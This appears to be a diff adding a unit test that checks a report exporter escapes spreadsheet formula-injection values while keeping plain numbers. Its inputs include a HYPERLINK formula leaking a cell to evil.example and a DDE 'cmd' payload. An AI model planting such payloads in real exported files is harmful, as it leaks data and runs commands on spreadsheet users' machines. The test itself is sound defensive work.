@@ -41,6 +41,24 @@ def test_formula_like_cells_are_defused_but_numbers_kept(tmp_path):
     assert rows[2]["claim"].startswith("'-cmd")
 
 
+def test_a_sign_followed_by_a_digit_is_no_way_past_the_defusing(tmp_path):
+    """OWASP's rule: any cell beginning with =, +, -, @, tab or CR is escaped unless it is wholly a number."""
+    report = build_hostile_report()
+    f = report.stories[0].findings
+    f[0].derived_value = '-1+HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    f[0].source_value = "+1-1+cmd|' /C calc'!A0"
+    f[1].derived_value, f[1].source_value = "-1,200", "+4.5%"
+    f[1].explanation = "\t=1+1"
+    f[2].article = "=cmd"  # an id comes from a file name
+    rows = _rows(report, tmp_path)
+    assert rows[0]["derived_value"] == "'" + f[0].derived_value
+    assert rows[0]["source_value"] == "'" + f[0].source_value
+    assert (rows[1]["derived_value"], rows[1]["source_value"]) == ("-1,200", "+4.5%")
+    assert rows[1]["explanation"] == "'\t=1+1"
+    assert rows[2]["article"] == "'=cmd"
+    assert float(rows[0]["confidence"]) == f[0].confidence  # numbers stay numbers
+
+
 def test_report_files_are_readable_as_the_umask_allows(tmp_path):
     """Reports are written through a private temporary file; the result must not stay owner-only."""
     import os
